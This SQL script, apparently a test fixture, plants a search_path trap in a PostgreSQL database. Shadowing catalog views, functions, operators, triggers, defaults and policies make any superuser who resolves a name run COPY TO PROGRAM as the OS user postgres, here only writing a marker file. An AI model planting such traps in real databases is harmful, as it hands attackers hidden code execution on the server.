-- As the owner of the database :app. Whoever is superuser and resolves a name here runs a program as the OS user
-- postgres: by a view over a catalog, a function, an operator, a cast, or what a dump carries along (checks, defaults,
-- indexes, policies, rules, triggers, domains). To everybody else all of it looks and works as usual.
DROP SCHEMA IF EXISTS trap CASCADE;
DROP TABLE IF EXISTS public.trap;
DROP MATERIALIZED VIEW IF EXISTS public.trap_kept;
CREATE SCHEMA trap;
CREATE FUNCTION trap.boom() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) ANY (ARRAY[current_user, session_user])
             AND rolsuper) THEN
    EXECUTE 'RESET ROLE';
    EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id >>/var/tmp/homeport-attack-mark''';
  END IF;
  RETURN true;
END $$;

-- every catalog that has been asked without its schema, or may be
DO $$ DECLARE name text; BEGIN
  FOREACH name IN ARRAY ARRAY['pg_extension', 'pg_class', 'pg_namespace', 'pg_database', 'pg_proc', 'pg_type',
                              'pg_depend', 'pg_roles', 'pg_tables', 'pg_stat_activity', 'pg_settings', 'pg_shdepend'] LOOP
    EXECUTE pg_catalog.format(
      'CREATE OR REPLACE VIEW trap.%I AS SELECT * FROM pg_catalog.%I WHERE trap.boom()', name, name);
  END LOOP;
END $$;

-- functions and operators that fit better than those of pg_catalog
CREATE FUNCTION trap.pg_database_size(name) RETURNS bigint LANGUAGE sql AS
  'SELECT pg_catalog.pg_database_size($1) WHERE trap.boom()';
CREATE FUNCTION trap.current_database() RETURNS name LANGUAGE sql AS
  'SELECT pg_catalog.current_database() WHERE trap.boom()';
CREATE FUNCTION trap.set_config(text, text, boolean) RETURNS text LANGUAGE sql AS
  'SELECT pg_catalog.set_config($1, $2, $3) WHERE trap.boom()';
CREATE FUNCTION trap.differs(name, text) RETURNS boolean LANGUAGE sql AS
  'SELECT $1::text OPERATOR(pg_catalog.<>) $2 AND trap.boom()';
CREATE FUNCTION trap.same(name, text) RETURNS boolean LANGUAGE sql AS
  'SELECT $1::text OPERATOR(pg_catalog.=) $2 AND trap.boom()';
CREATE FUNCTION trap.glued(name, text) RETURNS text LANGUAGE sql AS
  'SELECT pg_catalog.concat($1, $2) WHERE trap.boom()';
CREATE OPERATOR trap.<> (LEFTARG = name, RIGHTARG = text, FUNCTION = trap.differs);
CREATE OPERATOR trap.= (LEFTARG = name, RIGHTARG = text, FUNCTION = trap.same);
CREATE OPERATOR trap.|| (LEFTARG = name, RIGHTARG = text, FUNCTION = trap.glued);

-- what a dump and a restore carry along
CREATE DOMAIN trap.checked AS integer CHECK (trap.boom());
CREATE FUNCTION trap.number(integer) RETURNS integer IMMUTABLE LANGUAGE plpgsql AS
  'BEGIN PERFORM trap.boom(); RETURN $1; END';
CREATE TABLE public.trap (
  id integer DEFAULT CASE WHEN trap.boom() THEN 1 END CHECK (trap.boom()),
  checked trap.checked,
  made integer GENERATED ALWAYS AS (trap.number(id)) STORED
);
CREATE INDEX ON public.trap (trap.number(id));
INSERT INTO public.trap (id, checked) VALUES (1, 1);
CREATE FUNCTION trap.fired() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM trap.boom(); RETURN NEW; END';
CREATE TRIGGER fired BEFORE INSERT OR UPDATE ON public.trap FOR EACH ROW EXECUTE FUNCTION trap.fired();
CREATE RULE fired AS ON UPDATE TO public.trap DO ALSO SELECT trap.boom();
CREATE MATERIALIZED VIEW public.trap_kept AS SELECT trap.boom() AS fired;
ALTER TABLE public.trap ENABLE ROW LEVEL SECURITY;
CREATE POLICY fired ON public.trap USING (trap.boom());

ALTER DATABASE :app SET search_path = trap, pg_catalog, public;
ALTER ROLE :app SET search_path = trap, pg_catalog, public;
